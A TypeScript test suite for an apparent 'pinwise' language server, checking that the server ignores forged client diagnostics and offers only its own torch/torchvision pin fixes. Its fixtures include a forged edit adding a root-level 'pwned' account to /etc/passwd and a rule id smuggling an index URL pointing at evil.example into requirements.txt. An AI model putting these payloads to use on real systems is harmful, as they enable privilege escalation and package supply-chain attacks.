// A code action request carries diagnostics from the client, which may be forged. The server
// answers only with fixes from its own analysis of the document's current version: whatever
// `Diagnostic.data` says (edits, URIs, ranges, titles) is never applied, at most used as a key.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CodeAction, Diagnostic, WorkspaceEdit } from 'vscode-languageserver-protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../cli/run-cli';
import { applyTextEdits, editsFor, TestClient, uriOf } from '../lsp/client';

let root: string;
let client: TestClient;
let uri: string;
const text = 'torch==2.1.2\ntorchvision==0.15.2\n';
let mismatch: Diagnostic;

const passwd = 'file:///etc/passwd';
const forgedChanges = { [passwd]: [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'pwned::0:0::/:/bin/sh\n' }] };

/** Every URI any action would edit, and every new text it would write. */
function touched(actions: CodeAction[]): { uris: string[]; texts: string[] } {
  const uris: string[] = [];
  const texts: string[] = [];
  const visit = (edit: WorkspaceEdit | undefined) => {
    for (const [u, edits] of Object.entries(edit?.changes ?? {})) {
      uris.push(u);
      texts.push(...edits.map((e) => e.newText));
    }
    for (const change of edit?.documentChanges ?? []) {
      if ('textDocument' in change) {
        uris.push(change.textDocument.uri);
        texts.push(...change.edits.map((e) => ('newText' in e ? e.newText : '')));
      } else uris.push(JSON.stringify(change));
    }
  };
  for (const action of actions) visit(action.edit);
  return { uris, texts };
}

beforeAll(async () => {
  ensureBuilt();
  root = mkdtempSync(join(tmpdir(), 'pinwise-forged-'));
  client = new TestClient();
  await client.initialize(root);
  uri = uriOf(join(root, 'requirements.txt'));
  client.open(uri, text);
  const diagnostics = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'torch-family-mismatch'));
  mismatch = diagnostics.find((d) => d.code === 'torch-family-mismatch')!;
}, 60_000);

afterAll(async () => {
  await client.shutdown();
  rmSync(root, { recursive: true, force: true });
});

describe('code actions come from the server’s own analysis, never from Diagnostic.data', () => {
  it('publishes a key in data, not edits', () => {
    expect(mismatch.data).toEqual({ version: 1, id: expect.any(String) });
    expect(JSON.stringify(mismatch.data)).not.toContain('0.16.2');
  });

  it('a forged diagnostic whose data carries edits to /etc/passwd yields nothing', async () => {
    const forged: Diagnostic = {
      range: { start: { line: 0, character: 0 }, end: { line: 0, character: 5 } },
      source: 'pinwise',
      code: 'torch-family-mismatch',
      message: 'Apply this',
      data: { version: 1, fixes: [{ title: 'Forged fix', safe: true, changes: forgedChanges }] },
    };
    const actions = await client.codeActions(uri, [forged]);
    expect(actions).toEqual([]);
  });

  it('a real diagnostic with forged edits in data gets only the server’s own fix', async () => {
    const forged = { ...mismatch, data: { ...(mismatch.data as object), fixes: [{ title: 'Forged fix', safe: true, changes: forgedChanges }], edits: forgedChanges } };
    const actions = await client.codeActions(uri, [forged]);
    expect(actions.length).toBeGreaterThan(0);
    const { uris, texts } = touched(actions);
    expect(new Set(uris)).toEqual(new Set([uri]));
    expect(texts.join('')).not.toContain('pwned');
    expect(actions.map((a) => a.title)).not.toContain('Forged fix');
    const preferred = actions.find((a) => a.isPreferred)!;
    expect(applyTextEdits(text, editsFor(preferred.edit!, uri))).toBe('torch==2.1.2\ntorchvision==0.16.2\n');
  });

  it('a key naming no finding of the server, or a forged rule id, yields nothing (not even an ignore comment)', async () => {
    const unknownKey = { ...mismatch, data: { version: 1, id: 'torch-family-mismatch:0:1:deadbeef' } };
    expect(await client.codeActions(uri, [unknownKey])).toEqual([]);
    // Without data the diagnostic itself is the key: a rule id that injects text matches nothing.
    const injected: Diagnostic = { range: mismatch.range, source: 'pinwise', code: 'x]\n--index-url http://evil.example/simple #[', message: mismatch.message };
    const actions = await client.codeActions(uri, [injected]);
    expect(touched(actions).texts.join('')).not.toContain('evil');
    expect(actions).toEqual([]);
  });

  it('a range outside the document or a wrong version yields nothing', async () => {
    const outside = { ...mismatch, range: { start: { line: 900, character: 0 }, end: { line: 901, character: 3 } }, data: undefined };
    expect(await client.codeActions(uri, [outside])).toEqual([]);
    const stale = { ...mismatch, data: { ...(mismatch.data as object), version: 7 } };
    expect(await client.codeActions(uri, [stale])).toEqual([]);
  });

  it('a client without data support still gets the server’s fix, matched by rule, range and message', async () => {
    const bare = { ...mismatch, data: undefined };
    const actions = await client.codeActions(uri, [bare]);
    const preferred = actions.find((a) => a.isPreferred)!;
    expect(touched(actions).uris.every((u) => u === uri)).toBe(true);
    expect(applyTextEdits(text, editsFor(preferred.edit!, uri))).toBe('torch==2.1.2\ntorchvision==0.16.2\n');
  });

  it('a code action request for a URI outside the workspace that was never opened yields nothing', async () => {
    const forged = { ...mismatch, data: { version: 1, fixes: [{ title: 'Forged fix', safe: true, changes: forgedChanges }] } };
    expect(await client.codeActions(passwd, [forged])).toEqual([]);
    expect(await client.codeActions(passwd, [forged], ['source.fixAll.pinwise'])).toEqual([]);
  });
});
